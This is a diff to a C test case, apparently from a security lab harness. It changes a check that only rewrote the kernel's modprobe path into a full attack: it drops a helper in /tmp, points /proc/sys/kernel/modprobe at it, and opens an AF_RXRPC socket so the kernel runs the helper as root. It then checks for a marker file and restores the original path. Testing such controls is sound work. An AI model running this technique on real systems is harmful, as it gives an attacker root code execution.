@@ -1,30 +1,35 @@
 // SPDX-License-Identifier: GPL-2.0-or-later
 /*
- * G1, G3. Names the program that the kernel runs to load modules.
- * Source: root-paths, "modprobe_path". Control: the kernel has the new name (and gets the old one back).
+ * G1, G3. Names the program that the kernel runs to load modules, and makes the kernel want
+ * one. Source: root-paths, "modprobe_path". Control: the program runs.
  */
 #define _GNU_SOURCE
 #include <fcntl.h>
 #include <string.h>
+#include <sys/socket.h>
 #include <unistd.h>
 
 #include "attack.h"
 
+static const char path[] = "/proc/sys/kernel/modprobe";
+
 void attack(void)
 {
-	const char *path = "/proc/sys/kernel/modprobe", *mine = "/tmp/lab-modprobe";
+	const char *mark = "/tmp/lab-modprobe-ran";
 	char before[256] = "";
 	int fd = open(path, O_RDWR | O_CLOEXEC);
 	bool done;
 
 	if (fd < 0 || read(fd, before, sizeof(before) - 1) <= 0)
 		no_effect(errno);
-	if (pwrite(fd, mine, strlen(mine), 0) < 0)
-		no_effect(errno);
-	done = file_begins(path, mine);
-	if (pwrite(fd, before, strlen(before), 0) < 0)
-		broken("cannot put the name back");
+	close(fd);
+	drop_helper("/tmp/lab-modprobe", mark);
+	write_text(path, "/tmp/lab-modprobe");
+	/* No such family: the kernel asks for a module that knows it, and waits for the answer. */
+	socket(AF_RXRPC, SOCK_DGRAM, 0);
+	done = file_begins_soon(mark, FOREIGN_TEXT);
+	write_text(path, before);
 	if (done)
 		effect();
-	no_effect(errno);
+	no_effect(0);
 }
